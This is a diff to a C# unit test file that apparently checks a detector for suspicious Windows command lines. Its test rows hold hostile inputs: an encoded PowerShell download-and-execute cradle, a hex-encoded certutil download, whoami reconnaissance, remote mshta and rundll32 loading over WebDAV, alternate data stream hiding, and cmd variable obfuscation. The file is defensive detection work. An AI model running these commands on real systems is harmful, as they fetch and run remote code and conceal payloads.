@@ -25,11 +25,22 @@ public class CommandLineFeatureTests
     [InlineData("powershell.exe", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=", "behaviour.downloads_in_script", 2)]
     [InlineData("notepad.exe", @"notepad.exe C:\Users\Public\Documents\ReadMeFirst.txt", "command_line.base64_hides_text", 0)]
 
+    // Hexadecimal looked into: certutil -urlcache …, and whoami /all in UTF-16; hashes and numbers hold nothing
+    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865", "behaviour.certutil_transfer", 1)]
+    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865", "behaviour.web_address", 1)]
+    [InlineData("a.exe", "a.exe -x 0x770068006F0061006D00690020002F0061006C006C00", "behaviour.who_and_what", 1)]
+    [InlineData("a.exe", "a.exe -x 636572747574696c202d75726c6361636865202d6620687474703a2f2f3139322e302e322e312f612e65786520612e657865", "command_line.base64_hides_text", 0)]
+    [InlineData("a.exe", "a.exe -x 3f786850e387550fdab836ed7e6dc881de23001b", "command_line.words", 1.5849625f)]
+    [InlineData("a.exe", "a.exe -x 4624665222462466522246", "command_line.words", 1.5849625f)]
+
     // What the text names
     [InlineData("mshta.exe", "mshta http://192.0.2.7/a.hta", "behaviour.web_address", 1)]
     [InlineData("mshta.exe", "mshta http://192.0.2.7/a.hta", "command_line.script_file", 1)]
     [InlineData("curl.exe", "curl -o a.exe 192.0.2.7", "command_line.ip_address", 1)]
     [InlineData("rundll32.exe", @"rundll32 \\srv\share\a.dll,Run", "command_line.network_path", 1)]
+    [InlineData("rundll32.exe", @"rundll32 \\srv@SSL\DavWWWRoot\a.dll,Run", "behaviour.network_share", 2)]
+    [InlineData("cmd.exe", @"cmd /c type a.exe > C:\notes.txt:a.exe", "behaviour.alternate_stream", 1)]
+    [InlineData("cmd.exe", "cmd /c %comspec:~0,1%ho x", "behaviour.variable_tricks", 1)]
     [InlineData("cmd.exe", @"cmd /c C:\a.exe", "command_line.drive_root_file", 1)]
     [InlineData("cmd.exe", @"cmd /c C:\tools\a.exe", "command_line.drive_root_file", 0)]
     [InlineData("cmd.exe", @"cmd /c invoice.pdf.exe", "command_line.double_extension", 1)]
